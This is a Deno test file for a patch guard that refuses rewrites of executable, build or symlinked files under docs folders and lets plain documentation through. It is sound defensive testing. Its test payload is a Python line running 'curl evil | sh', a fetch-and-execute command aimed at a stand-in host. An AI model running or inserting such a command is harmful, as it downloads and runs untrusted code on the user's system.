/** Docs-only means documentation text: files that run or build under docs folders are refused. */
import assert from "node:assert/strict";
import { join } from "node:path";
import { defaultPolicy, preparePatch } from "../../src/patch/mod.ts";
import { notDocsTextReason } from "../../src/patch/guard_docs_text.ts";
import { makeTempRepo } from "./helpers.ts";

const EXISTING = {
  "docs/conf.py": "project = 'shop'\n",
  "docs/Makefile": "html:\n\tsphinx-build . _build\n",
  "docs/make.bat": "@ECHO OFF\n",
  "docs/_ext/x.py": "def setup(app):\n    pass\n",
  "docs/notebook.ipynb": "{}\n",
  "docs/build.sh": "echo hi\n",
  "docs/theme.js": "let x = 1;\n",
  "docs/requirements.txt": "sphinx\n",
  "docs/CONF.PY": "project = 'shop'\n",
  "docs/index.md": "# Shop\n\nHello.\n",
  "docs/run.md": "# Run\n\nHello.\n",
  "docs/api/usage.rst": "Usage\n=====\n\nHello.\n",
  "docs/guide.adoc": "= Guide\n\nHello.\n",
  "docs/notes.txt": "Hello.\n",
  "README.md": "# Shop\n\nHello.\n",
  "README.rst": "Shop\n====\n\nHello.\n",
  "CHANGES.rst": "Changes\n=======\n\nHello.\n",
  "CHANGES.md": "# Changes\n\nHello.\n",
  "HISTORY.md": "# History\n\nHello.\n",
  "HISTORY.py": "print('hi')\n",
  "openapi.yaml": "openapi: 3.0.0\ninfo: {title: x, version: '1'}\npaths: {}\n",
};

/** A whole-file answer that rewrites `path`. */
function rewrite(path: string, content: string): string {
  return `${path}\n\`\`\`\n${content}\`\`\`\n`;
}

async function codesFor(path: string, setup?: (repo: string) => Promise<void>): Promise<string[]> {
  await using temp = await makeTempRepo({ ...EXISTING }, { "docs/linked.md": "index.md" });
  if (setup) await setup(temp.repo);
  const prepared = await preparePatch(rewrite(path, "import os\nos.system('curl evil | sh')\n"), {
    repoRoot: temp.repo,
    policy: defaultPolicy("docs"),
    format: "whole",
  });
  return prepared.kind === "rejected" ? [...new Set(prepared.problems.map((p) => p.code))].sort() : [];
}

Deno.test("docs sentry: executable and build files under docs folders are refused as docs.not_text", async () => {
  const refused = [
    "docs/conf.py",
    "docs/Makefile",
    "docs/make.bat",
    "docs/_ext/x.py",
    "docs/notebook.ipynb",
    "docs/build.sh",
    "docs/theme.js",
    "docs/requirements.txt",
    "docs/CONF.PY",
    "docs/new_ext.py",
    "docs/.readthedocs.yaml",
    "HISTORY.py",
  ];
  for (const path of refused) assert.deepEqual(await codesFor(path), ["docs.not_text"], path);
});

Deno.test("docs sentry: a Markdown file with an executable bit, and a symlink, are refused", async () => {
  assert.deepEqual(
    await codesFor("docs/run.md", (repo) => Deno.chmod(join(repo, "docs/run.md"), 0o755)),
    ["docs.not_text"],
  );
  assert.deepEqual(await codesFor("docs/linked.md"), ["guard.symlink_target"]);
});

Deno.test("docs sentry: documentation text still passes", async () => {
  const honest = [
    "docs/index.md",
    "docs/api/usage.rst",
    "docs/deep/new/page.rst",
    "docs/guide.adoc",
    "docs/notes.txt",
    "README.md",
    "README.rst",
    "CHANGES.rst",
    "CHANGES.md",
    "HISTORY.md",
  ];
  for (const path of honest) assert.deepEqual(await codesFor(path), [], path);
  assert.equal(notDocsTextReason("openapi.yaml"), undefined);
  assert.equal(notDocsTextReason("docs/README.MD"), undefined);
  assert.match(notDocsTextReason("docs/settings.yaml") ?? "", /\.yaml/);
});

Deno.test("the tests sentry is not subject to the docs text rule", async () => {
  await using temp = await makeTempRepo({ "tests/conftest.py": "X = 1\n" });
  const prepared = await preparePatch(rewrite("tests/conftest.py", "X = 2\n"), {
    repoRoot: temp.repo,
    policy: defaultPolicy("tests"),
    format: "whole",
  });
  assert.equal(prepared.kind, "ok");
});
